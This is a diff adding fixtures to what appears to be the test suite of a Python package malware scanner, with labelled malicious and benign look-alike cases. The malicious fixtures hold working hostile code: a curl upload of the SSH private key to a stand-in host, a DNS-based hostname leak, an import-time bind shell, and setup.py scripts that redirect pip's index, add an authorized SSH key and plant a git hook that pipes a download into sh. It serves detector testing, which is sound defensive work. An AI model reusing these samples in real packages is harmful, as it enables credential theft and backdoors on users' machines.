@@ -79,6 +79,44 @@ CASES = [
         "openerpost", "import os, urllib.request\n\nop = urllib.request.build_opener()\n"
                       "op.open('https://k.x.invalid/u', data=repr(dict(os.environ)).encode())\n"),
         "malicious", ("PV303",), kind="wheel"),
+    Case("curl uploads the SSH key from a process call", "curlup", _init(
+        "curlup", "import os, subprocess\n\nsubprocess.run(['curl', '-s', '-F', 'k=@' + "
+                  "os.path.expanduser('~/.ssh/id_rsa'), 'https://k.x.invalid/u'])\n"),
+        "malicious", ("PV303",), kind="wheel"),
+    Case("nslookup of the host name through os.system", "nslookup", _init(
+        "nslookup", "import os, socket\n\nos.system(f'nslookup {socket.gethostname()}"
+                    ".x.invalid')\n"), "malicious", ("PV304",), kind="wheel"),
+    Case("bind shell: TCP server at import runs received commands", "bindshell", _init(
+        "bindshell",
+        "import socketserver, subprocess, threading\n\n\n"
+        "class H(socketserver.BaseRequestHandler):\n    def handle(self):\n"
+        "        cmd = self.request.recv(1024)\n"
+        "        self.request.sendall(subprocess.check_output(cmd, shell=True))\n\n\n"
+        "_s = socketserver.TCPServer(('0.0.0.0', 47001), H)\n"
+        "threading.Thread(target=_s.serve_forever, daemon=True).start()\n"),
+        "malicious", ("PV325",), kind="wheel"),
+    Case("setup.py points pip's config at another index", "pipconf", {
+        "setup.py": ("import os\nfrom setuptools import setup\n\n"
+                     "os.makedirs(os.path.expanduser('~/.config/pip'), exist_ok=True)\n"
+                     "with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n"
+                     "    fh.write('[global]\\nindex-url = https://pypi.x.invalid/simple\\n')\n"
+                     "setup(name='pipconf', version='1.0')\n"),
+    }, "malicious", ("PV401",)),
+    Case("setup.py appends a key to authorized_keys", "authkeys", {
+        "setup.py": ("import os\nfrom setuptools import setup\n\n"
+                     "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
+                     "    fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK a@x.invalid\\n')\n"
+                     "setup(name='authkeys', version='1.0')\n"),
+    }, "malicious", ("PV401",)),
+    Case("setup.py plants a git hook that fetches and runs code", "githook", {
+        "setup.py": ("import os\nfrom setuptools import setup\n\n"
+                     "hook = os.path.join('.git', 'hooks', 'post-checkout')\n"
+                     "if os.path.isdir(os.path.dirname(hook)):\n"
+                     "    with open(hook, 'w') as fh:\n"
+                     "        fh.write('#!/bin/sh\\ncurl -s https://g.x.invalid/h | sh\\n')\n"
+                     "    os.chmod(hook, 0o755)\n"
+                     "setup(name='githook', version='1.0')\n"),
+    }, "malicious", ("PV401",)),
     # benign look-alikes
     Case("mail helper that sends what the user passes", "mailhelp", _init(
         "mailhelp", "import smtplib\nfrom email.message import EmailMessage\n\n\n"
@@ -111,4 +149,23 @@ CASES = [
                                "_libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
                                "PID = _libc.getpid()\n"),
     }, "benign"),
+    Case("setup.py downloads sources with curl in a child environment", "curlsrc", {
+        "setup.py": ("import os, subprocess\nfrom setuptools import setup\n\n"
+                     "subprocess.check_call(['curl', '-fsSL', '-o', 'src.tgz', "
+                     "'https://example.org/src-1.0.tgz'], env=dict(os.environ, LC_ALL='C'))\n"
+                     "setup(name='curlsrc', version='1.0')\n"),
+    }, "benign"),
+    Case("hook installer and pip-config reader run by the user", "hookinstall", _init(
+        "hookinstall",
+        "import configparser, os\n\n\n"
+        "def install(repo='.'):\n    hook = os.path.join(repo, '.git', 'hooks', 'pre-commit')\n"
+        "    with open(hook, 'w') as fh:\n        fh.write('#!/bin/sh\\nexec hookinstall run\\n')\n"
+        "    os.chmod(hook, 0o755)\n\n\n"
+        "def index_url():\n    cfg = configparser.ConfigParser()\n"
+        "    cfg.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
+        "    return cfg.get('global', 'index-url', fallback=None)\n\n\n"
+        "def serve(port=8000):\n    import http.server\n"
+        "    http.server.HTTPServer(('127.0.0.1', port), "
+        "http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
+        "benign", kind="wheel"),
 ]
